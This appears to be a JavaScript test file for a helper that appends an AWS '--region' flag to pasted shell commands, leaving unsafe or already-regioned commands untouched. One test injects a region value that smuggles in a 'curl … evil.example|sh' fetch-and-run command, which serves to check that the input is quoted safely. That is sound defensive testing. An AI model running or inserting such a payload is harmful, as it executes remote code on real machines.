import {withRegion} from '../../src/core/shell.js'
import {wordsBashSees} from '../support/bash-words.js'

describe('withRegion: pasted fixes name their region', () => {
  it('adds --region to one plain aws or efsdoctor mount/probe command, as its own last word', () => {
    const cmd = `aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=2049,ToPort=2049,UserIdGroupPairs=[{GroupId=sg-2}]'`
    const out = withRegion(cmd, 'eu-west-1')
    expect(out).toBe(`${cmd} --region eu-west-1`)
    expect(wordsBashSees(out)[0].slice(-2)).toEqual(['--region', 'eu-west-1'])
    expect(withRegion('efsdoctor mount --instance i-1 --file-system fs-1 --path /mnt/efs', 'us-east-1')).toMatch(/ --region us-east-1$/)
  })

  it('leaves alone what it cannot extend safely, and what already names a region', () => {
    for (const cmd of [
      'aws efs describe-file-systems --region us-east-1',
      'aws efs describe-file-systems --region=us-east-1',
      'aws ecs stop-task --task x && aws ecs run-task --task y',
      'aws iam get-role --role-name "$(aws iam get-instance-profile --instance-profile-name p --query x --output text)"',
      'aws ec2 describe-vpcs | jq .',
      'aws ec2 describe-vpcs   # a comment',
      'sudo mount -a -t efs,nfs4',
      'efsdoctor userdata --file-system fs-1 --path /mnt/efs',
      "aws ec2 describe-vpcs --filters 'Name=x,Values=unterminated",
    ]) expect([cmd, withRegion(cmd, 'eu-west-1')]).toEqual([cmd, cmd])
    expect(withRegion('aws ec2 describe-vpcs', undefined)).toBe('aws ec2 describe-vpcs')
  })

  it('quotes a hostile region as one word', () => {
    const out = withRegion('aws ec2 describe-vpcs', 'eu-west-1;curl -s evil.example|sh')
    expect(wordsBashSees(out)).toEqual([['aws', 'ec2', 'describe-vpcs', '--region', 'eu-west-1;curl -s evil.example|sh']])
  })

  it('an operator inside quotes is text, not a second command', () => {
    const cmd = `aws ssm send-command --instance-ids i-1 --document-name AWS-RunShellScript --parameters '{"commands":["mount -a && df"]}'`
    expect(withRegion(cmd, 'eu-west-1')).toBe(`${cmd} --region eu-west-1`)
  })
})
